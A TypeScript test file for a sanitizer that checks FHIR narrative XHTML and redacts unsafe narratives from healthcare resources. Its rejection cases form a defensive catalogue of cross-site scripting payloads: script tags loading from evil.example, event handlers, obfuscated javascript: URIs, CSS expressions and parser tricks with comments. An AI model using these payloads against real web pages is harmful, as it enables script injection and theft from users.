import { describe, expect, it } from 'vitest';
import { isSafeXhtml } from './narrative.ts';
import { redact } from './redact.ts';

const div = (content: string): string => `<div xmlns="http://www.w3.org/1999/xhtml">${content}</div>`;

describe('a narrative with the elements and attributes of R4', () => {
  it.each([
    'Asthma &amp; more, 5 > 3, &#169; &nbsp;',
    '<p><b>Asthma</b><br/>since <i>2019</i></p>',
    '<table border="1" class="grid"><thead><tr><th colspan="2">Test</th></tr></thead>' +
      '<tbody><tr><td>5</td></tr></tbody></table>',
    '<a name="x"> </a><a href="Patient-1.html#x">Ada</a><a href="https://clinic.example/a?b=1&amp;c=2">site</a>',
    '<a href="mailto:a@b.example">mail</a><a href="tel:+15551234">call</a><a href="#s">here</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a rash"/><img src="#pic"/>',
    "<span style='color: #333; background-image: url(tbl_bck1.png)' title='a>b'>x</span>",
    '<!-- a comment with <p> - in it -->text',
    '<DIV><P>in capitals</P></DIV>',
  ])('stays: %s', (content) => {
    expect(isSafeXhtml(div(content))).toBe(true);
  });
});

/** Written by hand from the cheat sheet of OWASP, the issue named, and what the HTML standard says of tokens. */
describe('a narrative that runs something (microsoft/fhir-server #5699)', () => {
  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals', '<ScRiPt src="https://evil.example/x.js"></ScRiPt>'],
    ['a script with a slash', '<script/src="https://evil.example/x.js"></script>'],
    ['a handler', '<p onclick="alert(1)">x</p>'],
    ['a handler in capitals', '<img src="#a" ONERROR="alert(1)"/>'],
    ['a handler without quotes', '<img src=x onerror=alert(1)>'],
    ['a handler behind a slash', '<img/onerror="alert(1)"/src="x">'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['an object', '<object data="https://evil.example/x.swf"></object>'],
    ['a form', '<form action="https://evil.example"><input type="text"/></form>'],
    ['a drawing', '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>'],
    ['mathematics', '<math href="javascript:alert(1)">x</math>'],
    ['a base', '<base href="https://evil.example/"/>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"/>'],
    ['a style sheet', '<style>@import "https://evil.example/x.css";</style>'],
    ['a template', '<template><p>x</p></template>'],
    ['javascript:', '<a href="javascript:alert(1)">x</a>'],
    ['a space before it', '<a href=" javascript:alert(1)">x</a>'],
    ['a tab before it', '<a href="\tjavascript:alert(1)">x</a>'],
    ['a control character before it', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['a line break within it', '<a href="java\nscript:alert(1)">x</a>'],
    ['a tab by its number within it', '<a href="java&#x09;script:alert(1)">x</a>'],
    ['a tab by its name within it', '<a href="java&Tab;script:alert(1)">x</a>'],
    ['a colon by its name', '<a href="javascript&colon;alert(1)">x</a>'],
    ['a letter by its number', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['a letter by its number without semicolon', '<a href="&#0000106avascript:alert(1)">x</a>'],
    ['capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a page in data:', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
    ['a drawing in data:', '<img src="data:image/svg+xml;base64,PHN2Zz4="/>'],
    ['an image in data: behind a link', '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>'],
    ['blob:', '<a href="blob:https://evil.example/1">x</a>'],
    ['javascript: in cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
    ['an expression', '<p style="width: expression(alert(1))">x</p>'],
    ['an expression with a comment', '<p style="width: exp/**/ression(alert(1))">x</p>'],
    ['an expression with an escape', '<p style="width: \\65xpression(alert(1))">x</p>'],
    ['a behavior', '<p style="behavior: url(x.htc)">x</p>'],
    ['javascript: in a style', '<p style="background: url(javascript:alert(1))">x</p>'],
    ['a comment that ends early', '<!--><script>alert(1)</script>-->'],
    ['a comment that ends early with a dash', '<!---><script>alert(1)</script>-->'],
    ['a comment that ends with an exclamation mark', '<!-- --!><script>alert(1)</script>-->'],
    ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
    ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
    ['a doctype', '<!DOCTYPE html>'],
    ['a tag that is open', '<p title="x'],
    ['a quote within a value', '<a title="x"onclick="alert(1)">x</a>'],
    ['attributes of a closing tag', '</p onclick="alert(1)">'],
    ['a null character in a tag', '<scr\u0000ipt>alert(1)</script>'],
    ['a tag of another alphabet', '<ſcript>alert(1)</ſcript>'],
    ['a prefix', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  ])('goes: %s', (_what, content) => {
    expect(isSafeXhtml(div(content))).toBe(false);
  });
  it('is no text at all', () => {
    for (const value of [undefined, null, 5, {}, ['<p/>']]) expect(isSafeXhtml(value)).toBe(false);
  });

  it('is judged however long it is', () => {
    for (const part of ['<a b="', '<!-- -', '<a  ', '<p title="b" ', '<p title="b"'])
      expect(isSafeXhtml(div(part.repeat(100_000))), part).toBe(false);
    for (const part of ['&#x', '- ', '>', '<!-- - -->', '<b>x</b>', `<a href="${'&#x'.repeat(20)}">x</a>`])
      expect(isSafeXhtml(div(part.repeat(100_000))), part).toBe(true);
  });

  const condition = (over: object) => ({
    resourceType: 'Condition',
    id: 'c1',
    subject: { reference: 'Patient/m1' },
    code: { text: 'Asthma' },
    ...over,
  });
  const script = { status: 'generated', div: div('<script>alert(1)</script>') };
  it('is removed and counted, at every place, and the data stay', () => {
    const good = { status: 'generated', div: div('Asthma') };
    const found = redact(
      condition({
        text: script,
        contained: [{ resourceType: 'Practitioner', id: 'p', text: script, name: [{ family: 'Hopper' }] }],
        evidence: [{ detail: [{ reference: '#p' }] }],
        note: [
          {
            text: 'plain',
            _text: {
              extension: [
                { url: 'http://hl7.org/fhir/StructureDefinition/rendering-xhtml', valueString: script.div },
                { url: 'http://hl7.org/fhir/StructureDefinition/rendering-xhtml', valueString: good.div },
              ],
            },
          },
        ],
      }),
    );
    expect(JSON.stringify(found.resource)).not.toContain('script');
    expect(found.resource).toMatchObject({
      code: { text: 'Asthma' },
      contained: [{ name: [{ family: 'Hopper' }] }],
      note: [{ _text: { extension: [{ valueString: good.div }] } }],
    });
    expect(found.dropped).toEqual({
      'Condition.text': 1,
      'Condition.contained.text': 1,
      'Condition.note._text.extension': 1,
    });
    expect(redact(condition({ text: good })).resource).toEqual(condition({ text: good }));
  });
});
